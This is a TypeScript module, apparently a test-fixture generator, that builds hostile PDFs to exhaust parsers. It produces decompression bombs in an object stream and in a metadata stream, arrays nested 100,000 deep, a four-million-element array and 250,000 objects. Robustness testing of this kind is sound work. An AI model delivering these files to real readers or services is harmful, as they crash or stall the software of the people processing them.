// Hostile PDFs built byte by byte, each aimed at a parser's cost: a decompression bomb in an
// object stream (every object-stream reader inflates it whole) and in the XMP metadata stream,
// arrays nested tens of thousands deep, an array of millions of numbers, and hundreds of
// thousands of objects.
import { createDeflate } from 'node:zlib';

const MiB = 1024 * 1024;
const HEADER = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1');
const PAGES = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'];

/** A PDF of `objects` (object 1 is the catalog; a Buffer is written as is) with a classic xref table. */
export function pdfWith(objects: readonly (string | Buffer)[]): Buffer {
  const chunks: Buffer[] = [HEADER];
  let length = HEADER.length;
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(length);
    const framed = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`, 'latin1'),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    chunks.push(framed);
    length += framed.length;
  });
  // PDF 32000-1 §7.5.4: each cross-reference entry is exactly 20 bytes.
  const xref =
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}` +
    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`;
  chunks.push(Buffer.from(xref, 'latin1'));
  return Buffer.concat(chunks);
}

/** A FlateDecode stream object: `head` then `padBytes` spaces, deflated a MiB at a time (never held inflated). */
async function flateStream(dict: string, head: string, padBytes: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (c: Buffer) => chunks.push(c));
  const ended = new Promise((resolve) => deflate.on('end', resolve));
  const spaces = Buffer.alloc(MiB, 0x20);
  deflate.write(Buffer.from(head, 'latin1'));
  for (let done = 0; done < padBytes; done += MiB) {
    if (!deflate.write(spaces.subarray(0, Math.min(MiB, padBytes - done)))) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await ended;
  const data = Buffer.concat(chunks);
  return Buffer.concat([
    Buffer.from(`<< ${dict} /Length ${data.length} /Filter /FlateDecode >>\nstream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream', 'latin1'),
  ]);
}

/** §7.5.7: an object stream holding one font, padded with `inflatedBytes` of spaces (~1 MB on the wire per GiB). */
export async function objectStreamBomb(inflatedBytes = 1024 * MiB): Promise<Buffer> {
  const offsets = '6 0 ';
  const stream = await flateStream(
    `/Type /ObjStm /N 1 /First ${offsets.length}`,
    `${offsets}<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>`,
    inflatedBytes,
  );
  return pdfWith(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES, stream]);
}

/** §14.3.2: the catalog's /Metadata stream inflates to `inflatedBytes` of spaces (viewers read it at open). */
export async function metadataBomb(inflatedBytes = 1024 * MiB): Promise<Buffer> {
  return pdfWith([
    '<< /Type /Catalog /Pages 2 0 R /Metadata 4 0 R >>',
    ...PAGES,
    await flateStream('/Type /Metadata /Subtype /XML', '', inflatedBytes),
  ]);
}

/** Arrays nested `depth` deep inside the catalog (recursive-descent parsers run out of stack). */
export function deepNesting(depth = 100_000): Buffer {
  return pdfWith([`<< /Type /Catalog /Pages 2 0 R /Deep ${'['.repeat(depth)}${']'.repeat(depth)} >>`, ...PAGES]);
}

/** An array of `count` zeros in the catalog: 2 bytes each on the wire, an object or a number each in a parser's heap. */
export function hugeArray(count = 4_000_000): Buffer {
  return pdfWith([`<< /Type /Catalog /Pages 2 0 R /Big [${'0 '.repeat(count)}] >>`, ...PAGES]);
}

/** `count` small objects, each one referenced from an array in the catalog. */
export function manyObjects(count = 250_000): Buffer {
  const first = 4;
  const refs = Array.from({ length: count }, (_, i) => `${first + i} 0 R`).join(' ');
  const fillers = Array.from({ length: count }, (_, i) => `<< /N ${i} >>`);
  return pdfWith([`<< /Type /Catalog /Pages 2 0 R /Many [${refs}] >>`, ...PAGES, ...fillers]);
}
